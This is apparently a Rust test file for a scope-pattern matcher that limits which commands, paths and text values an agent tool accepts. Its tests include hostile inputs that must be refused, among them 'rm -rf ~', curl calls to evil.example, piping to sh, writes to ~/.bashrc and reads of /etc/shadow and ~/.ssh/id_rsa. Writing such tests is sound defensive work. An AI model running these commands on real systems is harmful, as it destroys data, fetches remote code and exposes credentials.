//! Scope patterns read by the kind of argument the tool declares: one named
//! test per attack class, per kind, a property that an admitted path never
//! leaves the pattern's literal leading folder, and differential properties
//! holding the in-place matchers to plain reference ones.

use proptest::prelude::*;
use tool_core::ScopeKind;
use tool_core::skills::ScopePattern;

fn command(pattern: &str, value: &str) -> bool {
    ScopePattern::new(pattern).admits(ScopeKind::Command, value)
}

fn path(pattern: &str, value: &str) -> bool {
    ScopePattern::new(pattern).admits(ScopeKind::Path, value)
}

fn text(pattern: &str, value: &str) -> bool {
    ScopePattern::new(pattern).admits(ScopeKind::Text, value)
}

// ---- command ----

#[test]
fn command_prefix_matches_by_words() {
    assert!(command("git diff:*", "git diff"));
    assert!(command("git diff:*", "git diff --stat"));
    assert!(command("git diff:*", "git  diff   HEAD~1"));
    assert!(!command("git diff:*", "git diffx"));
    assert!(!command("git diff:*", "git dif"));
    assert!(!command("git diff:*", "git"));
}

#[test]
fn command_exact_matches_the_words_only() {
    assert!(command("git status", "git status"));
    assert!(command("git status", "'git' \"status\""));
    assert!(!command("git status", "git status --short"));
}

#[test]
fn command_star_stays_within_a_word() {
    assert!(command("npx *eas-cli@*:*", "npx eas-cli@latest build"));
    assert!(!command("git *", "git push origin"));
    assert!(command("git *", "git push"));
}

#[test]
fn command_chaining_is_refused() {
    for value in [
        "git diff; rm -rf ~",
        "git diff && curl evil.example",
        "git diff || true",
        "git diff & sleep 9",
        "git diff | sh",
    ] {
        assert!(!command("git diff:*", value), "{value}");
    }
}

#[test]
fn command_substitution_is_refused() {
    for value in [
        "git diff $(curl evil.example)",
        "git diff `id`",
        "git diff ${HOME}",
        "git diff $HOME",
        "git diff \"$(id)\"",
        "git diff <(cat /etc/passwd)",
    ] {
        assert!(!command("git diff:*", value), "{value}");
    }
}

#[test]
fn command_redirection_is_refused() {
    for value in [
        "git diff > /etc/passwd",
        "git diff >> ~/.bashrc",
        "git diff < /etc/shadow",
        "git diff 2>&1",
    ] {
        assert!(!command("git diff:*", value), "{value}");
    }
}

#[test]
fn command_newline_is_refused() {
    for value in ["git diff\nrm -rf ~", "git diff\r\nid", "git diff\u{0}id"] {
        assert!(!command("git diff:*", value), "{value:?}");
    }
}

#[test]
fn command_unbalanced_quotes_are_refused() {
    for value in ["git diff 'HEAD", "git diff \"HEAD", "git diff \\"] {
        assert!(!command("git diff:*", value), "{value}");
    }
}

#[test]
fn command_grouping_is_refused() {
    for value in ["(git diff)", "{ git diff; }", "git diff {a,b}"] {
        assert!(!command("git diff:*", value), "{value}");
    }
}

#[test]
fn a_command_pattern_with_an_operator_admits_nothing() {
    let pattern = ScopePattern::new("git diff | head:*");
    assert!(pattern.problem(ScopeKind::Command).is_some());
    assert!(!pattern.admits(ScopeKind::Command, "git diff"));
}

// ---- path ----

#[test]
fn path_star_stays_within_a_segment() {
    assert!(path("src/*.rs", "src/main.rs"));
    assert!(!path("src/*.rs", "src/a/b.rs"));
    assert!(path("eval-*/out.txt", "eval-1/out.txt"));
    assert!(!path("eval-*/out.txt", "eval-1/sub/out.txt"));
}

#[test]
fn path_double_star_crosses_segments() {
    assert!(path("src/**", "src/a/b/c.rs"));
    assert!(path("src/**/*.rs", "src/a/b.rs"));
    assert!(path("src/**/*.rs", "src/b.rs"));
    assert!(!path("src/**", "srcx/a"));
}

#[test]
fn a_pattern_without_a_slash_is_still_a_path() {
    // `*.md` once admitted `/etc/x.md` and `../x.md`: read as a path, it
    // admits top-level names only.
    assert!(path("*.md", "README.md"));
    assert!(!path("*.md", "/etc/x.md"));
    assert!(!path("*.md", "../x.md"));
    assert!(!path("*.md", "docs/x.md"));
}

#[test]
fn path_absolute_is_refused() {
    for value in ["/etc/passwd", "/src/a.rs", "//server/share/a"] {
        assert!(!path("**", value), "{value}");
    }
    // An absolute pattern admits nothing.
    assert!(
        ScopePattern::new("/tmp/**")
            .problem(ScopeKind::Path)
            .is_some()
    );
    assert!(!path("/tmp/**", "/tmp/x"));
}

#[test]
fn path_climbing_is_refused() {
    for value in [
        "src/../../etc/passwd",
        "../src/a",
        "src/..",
        "src/./a.rs",
        "./src/a.rs",
        "src//a.rs",
        "src/a.rs/",
    ] {
        assert!(!path("src/**", value), "{value}");
    }
}

#[test]
fn path_backslash_nul_and_drive_letters_are_refused() {
    for value in [
        "src\\..\\..\\windows",
        "src/a\\b",
        "src/a\u{0}.rs",
        "C:/windows/system32",
        "c:src",
        "src/a\n.rs",
    ] {
        assert!(!path("**", value), "{value:?}");
    }
}

#[test]
fn path_home_and_symlink_looking_segments_are_refused() {
    // `~` expands to a home folder in a shell; a `..` hidden behind a link
    // name cannot be checked lexically, so the tool opens paths inside its
    // root with a capability API; here, lexically suspicious forms go.
    for value in ["~/.ssh/id_rsa", "~root/x", "src/../link/../../etc"] {
        assert!(!path("**", value), "{value}");
    }
}

#[test]
fn glob_metacharacters_other_than_star_are_literal() {
    assert!(path("docs/[draft]?.md", "docs/[draft]?.md"));
    assert!(!path("docs/[draft]?.md", "docs/d1.md"));
    assert!(!path("docs/{a,b}.md", "docs/a.md"));
}

// ---- text ----

#[test]
fn text_is_exact_or_wildcard() {
    assert!(text("page-1", "page-1"));
    assert!(!text("page-1", "page-10"));
    assert!(text("https://docs.example/*", "https://docs.example/a/b?c"));
    assert!(!text(
        "https://docs.example/*",
        "https://docs.example.evil/a"
    ));
    assert!(!text("a*", "ab\u{0}c"));
}

#[test]
fn one_pattern_is_read_by_the_kind_it_is_given() {
    // The same text means different things by kind, never by its shape.
    let pattern = ScopePattern::new("git diff:*");
    assert!(pattern.admits(ScopeKind::Command, "git diff --stat"));
    assert!(!pattern.admits(ScopeKind::Path, "git diff --stat"));
    assert!(!pattern.admits(ScopeKind::Text, "git diff --stat"));
}

// ---- the property ----

/// The literal leading folder of a pattern: its segments before the first
/// one with a wildcard.
fn literal_base(pattern: &str) -> Vec<&str> {
    pattern
        .split('/')
        .take_while(|segment| !segment.contains('*'))
        .collect()
}

/// Lexical resolution as an operating system would do it, relative to the
/// root: `None` when it climbs above the root.
fn resolve(value: &str) -> Option<Vec<&str>> {
    let mut kept = Vec::new();
    for segment in value.split(['/', '\\']) {
        match segment {
            "" | "." => {}
            ".." => {
                kept.pop()?;
            }
            s => kept.push(s),
        }
    }
    Some(kept)
}

fn segment() -> impl Strategy<Value = String> {
    prop_oneof![
        4 => "[a-z]{1,3}",
        1 => Just("..".to_owned()),
        1 => Just(".".to_owned()),
        1 => Just(String::new()),
        1 => Just("~".to_owned()),
        1 => Just("C:".to_owned()),
        1 => Just("a\\..".to_owned()),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2000))]

    #[test]
    fn an_admitted_path_never_leaves_the_patterns_literal_folder(
        base in proptest::collection::vec("[a-z]{1,3}", 1..3),
        tail in prop_oneof![Just("**"), Just("*"), Just("*.rs"), Just("**/*.rs")],
        value in proptest::collection::vec(segment(), 1..7),
        leading_slash in any::<bool>(),
    ) {
        let pattern = format!("{}/{}", base.join("/"), tail);
        let mut value = value.join("/");
        if leading_slash {
            value.insert(0, '/');
        }
        if path(&pattern, &value) {
            let resolved = resolve(&value);
            prop_assert!(resolved.is_some(), "{value} climbs above the root");
            let resolved = resolved.unwrap();
            let literal = literal_base(&pattern);
            prop_assert!(
                resolved.starts_with(&literal),
                "{value} (resolved {resolved:?}) left {literal:?}"
            );
            // The tool receives the value that was checked: nothing in it
            // resolves differently from how it reads.
            prop_assert_eq!(resolved.join("/"), value);
        }
    }

    #[test]
    fn an_admitted_command_is_one_simple_command(value in "[a-z ;&|$`<>()\n'\"-]{0,24}") {
        if command("git diff:*", &value) {
            for forbidden in [';', '&', '|', '$', '`', '<', '>', '(', ')', '\n'] {
                prop_assert!(!value.contains(forbidden), "{value:?}");
            }
        }
    }

    #[test]
    fn path_matching_agrees_with_a_segment_table(
        pattern in proptest::collection::vec(pattern_segment(), 1..6),
        value in proptest::collection::vec("[ab]{1,3}", 1..7),
    ) {
        let (pattern, value) = (pattern.join("/"), value.join("/"));
        let segments: Vec<&str> = value.split('/').collect();
        prop_assert_eq!(
            path(&pattern, &value),
            reference_path(&pattern, &segments),
            "{} against {}", pattern, value
        );
    }

    #[test]
    fn text_matching_agrees_with_a_recursive_wildcard(
        pattern in "[ab*é]{0,8}",
        value in "[abé]{0,10}",
    ) {
        let chars: Vec<char> = pattern.chars().collect();
        let value_chars: Vec<char> = value.chars().collect();
        prop_assert_eq!(
            text(&pattern, &value),
            reference_wildcard(&chars, &value_chars),
            "{} against {}", pattern, value
        );
    }
}

fn pattern_segment() -> impl Strategy<Value = String> {
    prop_oneof![
        3 => "[ab*]{1,3}",
        1 => Just("**".to_owned()),
    ]
}

/// Path matching as a table over (pattern, value) segment positions: the
/// obviously correct form the matcher's linear walk must agree with.
fn reference_path(pattern: &str, value: &[&str]) -> bool {
    let pattern: Vec<&str> = pattern.split('/').collect();
    let (p, v) = (pattern.len(), value.len());
    let mut reach = vec![vec![false; v + 1]; p + 1];
    reach[0][0] = true;
    for i in 1..=p {
        for j in 0..=v {
            reach[i][j] = if pattern[i - 1] == "**" {
                reach[i - 1][j] || (j > 0 && reach[i][j - 1])
            } else {
                let glob: Vec<char> = pattern[i - 1].chars().collect();
                let segment: Vec<char> = value
                    .get(j.wrapping_sub(1))
                    .map_or_else(Vec::new, |s| s.chars().collect());
                j > 0 && reach[i - 1][j - 1] && reference_wildcard(&glob, &segment)
            };
        }
    }
    reach[p][v]
}

/// `*` over any run of characters, by plain recursion.
fn reference_wildcard(pattern: &[char], value: &[char]) -> bool {
    match pattern.split_first() {
        None => value.is_empty(),
        Some(('*', rest)) => (0..=value.len()).any(|skip| reference_wildcard(rest, &value[skip..])),
        Some((c, rest)) => value.first() == Some(c) && reference_wildcard(rest, &value[1..]),
    }
}
